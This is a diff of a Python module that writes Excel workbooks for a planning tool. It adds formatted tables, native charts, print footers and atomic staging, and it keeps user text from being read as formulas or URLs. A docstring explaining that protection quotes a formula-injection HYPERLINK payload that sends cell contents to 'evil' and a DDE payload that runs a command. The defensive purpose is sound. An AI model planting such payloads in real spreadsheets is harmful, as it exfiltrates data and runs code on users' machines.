@@ -1,36 +1,85 @@
-"""Write result tables to an .xlsx workbook safely: text stays text, files go through `planner.outputs`."""
+"""Write workbooks that planners read, filter and print: tables, notes and native charts, all or nothing.
+
+Result, comparison and study workbooks all go through `Book`, which writes with XlsxWriter to a file
+staged by `planner.outputs` (renamed into place with the command's other outputs, all or nothing):
+
+    with Book(target, footer=footer_text(input_name, scenario)) as book:
+        book.table("Procurement", frame, notes={"price": "price per t"}, highlight={"bought_t": AMBER})
+        book.charts("Charts", [Chart("Unmet Dy oxide (t)", pivot, kind="column_stacked", unit="t")])
+
+What every table sheet gets:
+- the header in row 1, bold, frozen, with filters, right-aligned over numeric columns, and a comment
+  on a column where `notes` gives one (meaning, unit, currency);
+- one number format per column (`number_format(name)` guesses it from the name, `formats` overrides),
+  set on the column, not on each cell; widths fitted to the content;
+- text written as text (never as a formula, a URL or a number), blanks for NaN and infinities;
+- print setup: the header row repeated on every page, fit to one page wide, landscape where the
+  table is wide, and a footer naming the input, the scenario, the sheet and the page.
+
+`Book.sheet` hands out a bare worksheet (with the same print setup) for free layouts such as a
+summary; `Book.formats` are the shared cell formats for it. Charts are native Excel charts, each on
+its own printed page of a chart sheet, their data on a data sheet with number formats.
+XlsxWriter cannot read: openpyxl stays the reader (and writes the template and validation report).
+"""
 from __future__ import annotations
 
 import json
 import math
+from contextlib import ExitStack
+from dataclasses import dataclass
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
-from openpyxl import Workbook
+import xlsxwriter
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
 from planner.outputs import staged
 
-atomic_path = staged  # the earlier name: every file reeplan writes is staged by planner.outputs
-
 TONNES = "#,##0.0"
-MONEY = "#,##0.00"
+TONNES_FINE = "[=0]0;[<1]0.000;#,##0.0#"  # precision that fits the magnitude: 0, 0.044, 2.46, 930.7
+MONEY = "#,##0"
 PERCENT = "0.0%"
-HEADER_FONT = Font(bold=True)
+RATE = "0.000"
+SECONDS = "0.00"
+INTEGER = "0"
+BOOLEAN = '"TRUE";"TRUE";"FALSE"'
+RED, AMBER, GREEN = "#FFC7CE", "#FFEB9C", "#C6EFCE"
+HEADER_FONT = Font(bold=True)  # openpyxl, for the template and the validation report
+# XlsxWriter: user text stays text
+SAFE_TEXT = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+WIDE = 110  # characters of column width above which a sheet prints landscape
+MAX_WIDTH = 60
+PAGE_ROWS = 32  # rows of default height per landscape page of a chart sheet
+CHART_SIZE = (920, 560)  # px: fits one landscape page (Letter or A4) without scaling
 MAX_CELL_TEXT = 32767  # Excel's limit on the characters of one cell
 
 
 def number_format(column: str) -> str | None:
-    """The Excel number format a result column is shown in."""
+    """The Excel number format a result column is shown in, guessed from its name."""
+    if column in ("service_level", "probability", "unmet_share", "controlled_share") or column.startswith("share"):
+        return PERCENT
+    if column.startswith(("allowable_", "range_")) or column in ("holds_from", "holds_to", "limit_value", "rhs", "slack"):
+        return TONNES_FINE
     if column.endswith("_t") or column in ("activity", "value_t"):
         return TONNES
-    if column in ("service_level", "probability") or column.startswith("share"):
-        return PERCENT
-    if column in ("price", "shadow_price", "rhs", "slack", "objective", "cost", "marginal_value"):
+    if column in ("served_t_per_unit",):
+        return RATE
+    if column in ("price", "shadow_price", "objective", "cost", "reduced_cost", "marginal_value") or \
+            column.endswith(("_cost", "_value", "_price", "_spend", "_penalty")) or column.startswith("objective"):
         return MONEY
+    if column in ("rank", "row"):
+        return INTEGER
     return None
+
+
+def footer_text(input_name: str, scenario: str) -> str:
+    """Print footer: input and scenario on the left, the sheet name in the middle, page of pages on the right."""
+    left = f"{input_name} · scenario {scenario}" if scenario else input_name
+    left = left.replace("&", "&&")[:120]
+    return f"&L&8{left}&C&8&A&R&8page &P of &N"
 
 
 def safe_text(text: str) -> str:
@@ -39,8 +88,8 @@ def safe_text(text: str) -> str:
 
 
 def cell_value(value):
-    """A value Excel can hold: no NaN or infinities (left blank), plain Python types, safe text."""
-    if value is None:
+    """A value a cell can hold: no NaN or infinities (left blank), plain Python types, safe text."""
+    if value is None or value is pd.NA:
         return None
     if isinstance(value, str):
         return safe_text(value)
@@ -48,13 +97,288 @@ def cell_value(value):
         return None
     if hasattr(value, "item"):  # numpy scalar
         return cell_value(value.item())
-    if value is pd.NA:
-        return None
     return value
 
 
+@dataclass
+class Chart:
+    """One native chart: `data`'s first column is the category axis, every other column a series."""
+
+    title: str
+    data: pd.DataFrame
+    kind: str = "line"  # line, column, column_stacked, bar
+    unit: str = ""  # y axis title
+    number_format: str = TONNES
+    x_title: str = ""
+    note: str = ""  # one line under the chart's data block
+
+
+@dataclass
+class TableInfo:
+    name: str
+    rows: int
+    columns: list[str]
+    first_row: int = 0  # 0-based row of the header
+
+    def column_letter(self, column: str) -> str:
+        return get_column_letter(self.columns.index(column) + 1)
+
+
+class Book:
+    """An XlsxWriter workbook written to a staged file (planner.outputs), put in place on `close()`."""
+
+    def __init__(self, target: Path, *, footer: str = "", constant_memory: bool = False):
+        self.target = Path(target)
+        self._staging = ExitStack()
+        self.tmp = self._staging.enter_context(staged(self.target))
+        self.footer = footer
+        self.wb = xlsxwriter.Workbook(str(self.tmp), {**SAFE_TEXT, "constant_memory": constant_memory})
+        self._formats: dict[tuple, object] = {}
+        self.tables: dict[str, TableInfo] = {}
+
+    # -- life cycle
+    def __enter__(self) -> "Book":
+        return self
+
+    def __exit__(self, kind, exc, tb) -> None:
+        if kind is None:
+            self.close()
+        else:
+            self.discard()
+
+    def close(self) -> None:
+        try:
+            self.wb.close()
+        except BaseException as exc:
+            self._staging.__exit__(type(exc), exc, exc.__traceback__)
+            raise
+        self._staging.close()
+
+    def discard(self) -> None:
+        self._staging.__exit__(RuntimeError, RuntimeError("discarded"), None)
+
+    # -- formats
+    def format(self, **props):
+        """A shared cell format (XlsxWriter properties), made once per distinct set of properties."""
+        key = tuple(sorted(props.items()))
+        if key not in self._formats:
+            self._formats[key] = self.wb.add_format(props)
+        return self._formats[key]
+
+    def number(self, code: str | None):
+        return self.format(num_format=code) if code else None
+
+    # -- sheets
+    def sheet(self, name: str, *, landscape: bool = False, fit_height: int = 0):
+        """A bare worksheet with the book's print setup (fit to width; `fit_height` pages tall if > 0)."""
+        ws = self.wb.add_worksheet(name)
+        self._print_setup(ws, landscape=landscape, fit_height=fit_height)
+        return ws
+
+    def _print_setup(self, ws, *, landscape: bool, fit_height: int = 0, repeat_row: int | None = None):
+        ws.set_paper(9)  # A4; Letter printers scale it
+        ws.set_margins(left=0.5, right=0.5, top=0.6, bottom=0.7)
+        if landscape:
+            ws.set_landscape()
+        ws.fit_to_pages(1, fit_height)
+        if repeat_row is not None:
+            ws.repeat_rows(repeat_row)
+        if self.footer:
+            ws.set_footer(self.footer)
+
+    def table(self, name: str, frame: pd.DataFrame, *, formats: dict[str, str] | None = None,
+              notes: dict[str, str] | None = None, widths: dict[str, float] | None = None,
+              highlight: dict[str, str] | None = None, landscape: bool | None = None, wrap: tuple[str, ...] = (),
+              ws=None, first_row: int = 0, print_setup: bool = True) -> TableInfo:
+        """Write `frame` as a filtered table with its header at `first_row` (0-based) of sheet `name`.
+
+        `formats`: number format per column (default `number_format(name)`); `notes`: header comments;
+        `widths`: column widths in characters (default fitted); `highlight`: fill colour of cells > 0;
+        `wrap`: text columns wrapped within their width (long notes) instead of running past the page."""
+        formats = formats or {}
+        notes = notes or {}
+        columns = [str(c) for c in frame.columns]
+        codes = [formats.get(c, number_format(c)) for c in columns]
+        values = [_column_values(frame.iloc[:, j]) for j in range(len(columns))]
+        kinds = [kind for kind, _ in values]
+        width = [widths.get(c) if widths and c in widths else _fit_width(c, frame.iloc[:, j], codes[j], kinds[j])
+                 for j, c in enumerate(columns)]
+        if ws is None:
+            ws = self.wb.add_worksheet(name)
+        if print_setup:
+            wide = sum(width) > WIDE if landscape is None else landscape
+            self._print_setup(ws, landscape=wide, repeat_row=first_row)
+        after_number = [j > 0 and kinds[j - 1] in ("number", "mixed", "bool") for j in range(len(columns))]
+        for j, c in enumerate(columns):
+            top = {"valign": "top"} if wrap else {}  # with wrapped rows, every cell starts at the top line
+            if kinds[j] == "text":  # text left-aligned, a little away from a number column on its left
+                fmt = self.format(num_format="@", indent=1 if after_number[j] else 0, text_wrap=c in wrap, **top)
+            elif kinds[j] == "bool":  # TRUE/FALSE in Excel and LibreOffice alike
+                fmt = self.format(num_format=BOOLEAN, align="center", **top)
+            elif codes[j] == INTEGER:  # ranks and counts: short, centred under their header
+                fmt = self.format(num_format=INTEGER, align="center", **top)
+            else:
+                fmt = self.format(**({"num_format": codes[j]} if codes[j] else {}), **top) if (codes[j] or top) \
+                    else None
+            ws.set_column(j, j, width[j], fmt)
+        header_text = self.format(bold=True, bottom=1, valign="bottom")
+        header_indent = self.format(bold=True, bottom=1, valign="bottom", indent=1)
+        header_number = self.format(bold=True, bottom=1, align="right", valign="bottom")
+        header_center = self.format(bold=True, bottom=1, align="center", valign="bottom")
+        for j, c in enumerate(columns):
+            header = {"number": header_center if codes[j] == INTEGER else header_number, "mixed": header_number,
+                      "bool": header_center}.get(kinds[j], header_indent if after_number[j] else header_text)
+            ws.write_string(first_row, j, c, header)
+            if c in notes:
+                ws.write_comment(first_row, j, notes[c], {"x_scale": 2.2, "y_scale": 1.4})
+        ws.freeze_panes(first_row + 1, 0)
+        n = len(frame)
+        if columns:
+            ws.autofilter(first_row, 0, first_row + max(n, 1), len(columns) - 1)
+        writers = {"number": ws.write_number, "text": ws.write_string, "bool": ws.write_boolean,
+                   "mixed": lambda r, c, v: _write_any(ws, r, c, v)}
+        plan = [(j, writers[kinds[j]], values[j][1]) for j in range(len(columns))]
+        wrapped = [(values[j][1], max(width[j] - 2, 5)) for j, c in enumerate(columns) if c in wrap]
+        for i in range(n):
+            r = first_row + 1 + i
+            if wrapped:  # spreadsheets do not grow rows on opening: give wrapped text the lines it needs
+                lines = max(math.ceil(len(str(column[i] or "")) / chars) for column, chars in wrapped)
+                if lines > 1:
+                    ws.set_row(r, 15 * lines)
+            for j, write, column in plan:
+                v = column[i]
+                if v is not None:
+                    write(r, j, v)
+        for column, color in (highlight or {}).items():
+            if column in columns and n:
+                j = columns.index(column)
+                ws.conditional_format(first_row + 1, j, first_row + n, j, {
+                    "type": "cell", "criteria": ">", "value": 0.0001, "format": self.format(bg_color=color)})
+        info = TableInfo(name, n, columns, first_row)
+        self.tables[name] = info
+        return info
+
+    def charts(self, name: str, charts: list[Chart], *, data_sheet: str, empty_note: str = "") -> None:
+        """A chart sheet with one chart per printed page, and the charts' data (formatted) on `data_sheet`."""
+        ws = self.sheet(name, landscape=True)
+        ws.hide_gridlines(2)
+        data = self.wb.add_worksheet(data_sheet)
+        self._print_setup(data, landscape=False)
+        title = self.format(bold=True, font_size=12)
+        if not charts:
+            ws.write_string(0, 0, empty_note or "nothing to chart", title)
+        top = 0
+        breaks = []
+        widths = [12.0]
+        for n, spec in enumerate(charts):
+            frame = spec.data
+            data.write_string(top, 0, spec.title, title)
+            header = top + 1
+            columns = [str(c) for c in frame.columns]
+            bold = self.format(bold=True, bottom=1)
+            bold_right = self.format(bold=True, bottom=1, align="right")
+            fmt = self.number(spec.number_format)
+            for j, c in enumerate(columns):
+                data.write_string(header, j, c, bold if j == 0 else bold_right)
+                if j < len(widths):
+                    widths[j] = max(widths[j], len(c) + 2)
+                else:
+                    widths.append(max(12.0, len(c) + 2.0))
+            for i, row in enumerate(frame.itertuples(index=False), start=1):
+                for j, v in enumerate(row):
+                    v = cell_value(v)
+                    if j == 0:
+                        data.write_string(header + i, 0, safe_text(str(v)))
+                        widths[0] = max(widths[0], len(str(v)) + 2)
+                    elif v is not None:
+                        data.write_number(header + i, j, float(v), fmt)
+            last = header + len(frame)
+            if spec.note:
+                data.write_string(last + 1, 0, spec.note)
+            chart = self._chart(spec, data_sheet, header, last, len(columns))
+            anchor = n * PAGE_ROWS
+            ws.insert_chart(anchor, 0, chart, {"x_offset": 10, "y_offset": 10})
+            if n:
+                breaks.append(anchor)
+            top = last + 3
+        for j, w in enumerate(widths):
+            data.set_column(j, j, min(w, MAX_WIDTH))
+        if breaks:
+            ws.set_h_pagebreaks(breaks)
+        ws.print_area(0, 0, max(len(charts), 1) * PAGE_ROWS - 1, 15)
+        ws.fit_to_pages(1, 0)
+
+    def _chart(self, spec: Chart, sheet: str, header: int, last: int, n_columns: int):
+        kind, subtype = {"line": ("line", None), "column": ("column", None),
+                         "column_stacked": ("column", "stacked"), "bar": ("bar", None)}[spec.kind]
+        chart = self.wb.add_chart({"type": kind, **({"subtype": subtype} if subtype else {})})
+        for j in range(1, n_columns):
+            series = {"name": [sheet, header, j], "categories": [sheet, header + 1, 0, last, 0],
+                      "values": [sheet, header + 1, j, last, j]}
+            if spec.kind == "line":
+                series["marker"] = {"type": "circle", "size": 4}
+            chart.add_series(series)
+        chart.set_title({"name": spec.title, "name_font": {"size": 12}})
+        value_axis = {"name": spec.unit, "num_format": spec.number_format, "major_gridlines": {"visible": True}}
+        category_axis = {"name": spec.x_title} if spec.x_title else {}
+        if spec.kind == "bar":
+            chart.set_x_axis(value_axis)
+            chart.set_y_axis({**category_axis, "reverse": True, "crossing": "max"})  # first at top, values below
+        else:
+            chart.set_y_axis(value_axis)
+            chart.set_x_axis({**category_axis, "num_font": {"rotation": -45}} if last - header > 8 else category_axis)
+        chart.set_legend({"position": "bottom"} if n_columns > 2 else {"none": True})
+        chart.set_size({"width": CHART_SIZE[0], "height": CHART_SIZE[1]})
+        return chart
+
+
+def _column_values(series: pd.Series) -> tuple[str, list]:
+    """(kind, values) with NaN and infinities as None; kind is number, bool, text or mixed."""
+    dtype = series.dtype
+    if pd.api.types.is_bool_dtype(dtype):
+        return "bool", [bool(v) for v in series.tolist()]
+    if pd.api.types.is_numeric_dtype(dtype):
+        array = series.to_numpy(dtype=float, na_value=np.nan)
+        finite = np.isfinite(array)
+        values = array.tolist()
+        if not finite.all():
+            values = [v if ok else None for v, ok in zip(values, finite.tolist())]
+        return "number", values
+    values = series.tolist()
+    kinds = {type(v) for v in values if v is not None and not (isinstance(v, float) and math.isnan(v))}
+    if kinds <= {str}:
+        return "text", [None if v is None or (isinstance(v, float) and math.isnan(v)) else safe_text(v)
+                        for v in values]
+    return "mixed", [cell_value(v) for v in values]
+
+
+def _write_any(ws, row: int, col: int, value) -> None:
+    if isinstance(value, bool):
+        ws.write_boolean(row, col, value)
+    elif isinstance(value, (int, float)):
+        ws.write_number(row, col, value)
+    elif isinstance(value, str):
+        ws.write_string(row, col, safe_text(value))
+    elif value is not None:
+        ws.write_string(row, col, safe_text(str(value)))
+
+
+def _fit_width(column: str, series: pd.Series, code: str | None, kind: str) -> float:
+    sample = series.head(300).tolist()
+    if kind == "number":
+        finite = [abs(v) for v in sample if isinstance(v, (int, float)) and math.isfinite(v)]
+        largest = max(finite, default=0.0)
+        digits = len(f"{largest:,.0f}") + (4 if code in (TONNES_FINE, RATE) else 2 if code == TONNES else 0)
+        if code == PERCENT:
+            digits = 7
+        content = digits + 1
+    else:
+        content = max((len(str(v)) for v in sample if v is not None), default=0)
+    return float(min(max(content, len(column) + 3, 8) + 1, MAX_WIDTH))
+
+
 def write_table(ws, frame: pd.DataFrame) -> None:
-    """A sheet with a frozen bold header, filters, number formats and widths fitted to the content."""
+    """An openpyxl sheet (template, validation report) with a frozen bold header, filters and fitted widths."""
     columns = list(frame.columns)
     ws.append(columns)
     for row in frame.itertuples(index=False):
@@ -65,29 +389,23 @@ def write_table(ws, frame: pd.DataFrame) -> None:
     if columns:
         ws.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{max(len(frame) + 1, 2)}"
     for i, column in enumerate(columns, start=1):
-        letter = get_column_letter(i)
-        fmt = number_format(column)
-        if fmt:
-            for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
-                if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
-                    cell.number_format = fmt
         sample = [str(column)] + [str(v) for v in frame[column].head(200)]
-        ws.column_dimensions[letter].width = min(max(len(s) for s in sample) + 3, 60)
+        ws.column_dimensions[get_column_letter(i)].width = min(max(len(s) for s in sample) + 3, MAX_WIDTH)
+    ws.print_title_rows = "1:1"
+    ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0
+    ws.sheet_properties.pageSetUpPr.fitToPage = True
 
 
-def write_workbook(sheets: dict[str, pd.DataFrame], target: Path, decorate=None) -> None:
-    """Write every table to its own sheet; `decorate(workbook)` may add charts and styling."""
-    wb = Workbook()
-    wb.remove(wb.active)
-    for name, frame in sheets.items():
-        write_table(wb.create_sheet(name), frame)
-    if decorate is not None:
-        decorate(wb)
-    save_workbook(wb, target)
+def write_tables(sheets: dict[str, pd.DataFrame], target: Path, *, footer: str = "",
+                 notes: dict[str, dict[str, str]] | None = None) -> None:
+    """Every table on its own sheet, nothing else (the simplest use of `Book`)."""
+    with Book(target, footer=footer) as book:
+        for name, frame in sheets.items():
+            book.table(name, frame, notes=(notes or {}).get(name))
 
 
 def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> None:
-    """Save a workbook reeplan made through planner.outputs (every workbook writer ends here).
+    """Save an openpyxl workbook reeplan made (template, validation report) through planner.outputs.
 
     Text stays text: openpyxl stores a string starting with '=' as a formula, so a name such as
     `=HYPERLINK("http://evil/?"&A1)` or a DDE payload `=cmd|' /C calc'!A0` would run in the planner's
@@ -103,5 +421,19 @@ def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> N
 
 
 def write_json(payload: dict, target: Path) -> None:
-    with staged(target) as tmp:
-        tmp.write_text(json.dumps(payload, indent=2, allow_nan=False), encoding="utf-8")
+    with staged(Path(target)) as tmp:
+        tmp.write_text(json.dumps(payload, indent=2, allow_nan=False, default=_json_default), encoding="utf-8")
+
+
+def _json_default(value):
+    if isinstance(value, (np.integer,)):
+        return int(value)
+    if isinstance(value, (np.floating,)):
+        return float(value) if math.isfinite(value) else None
+    if isinstance(value, np.bool_):
+        return bool(value)
+    raise TypeError(f"not JSON: {type(value).__name__}")
+
+
+__all__ = ["AMBER", "Book", "Chart", "GREEN", "MONEY", "PERCENT", "RED", "TONNES", "TONNES_FINE", "cell_value",
+           "footer_text", "number_format", "safe_text", "save_workbook", "write_json", "write_table", "write_tables"]
